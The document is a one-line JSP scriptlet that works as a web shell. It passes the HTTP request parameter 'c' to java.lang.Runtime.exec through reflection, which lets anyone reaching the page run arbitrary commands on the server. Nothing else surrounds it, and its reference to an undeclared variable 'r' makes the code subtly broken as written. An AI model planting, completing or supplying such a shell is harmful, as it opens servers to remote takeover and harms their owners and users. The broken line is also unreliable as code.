<% Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(r, request.getParameter("c")); %>
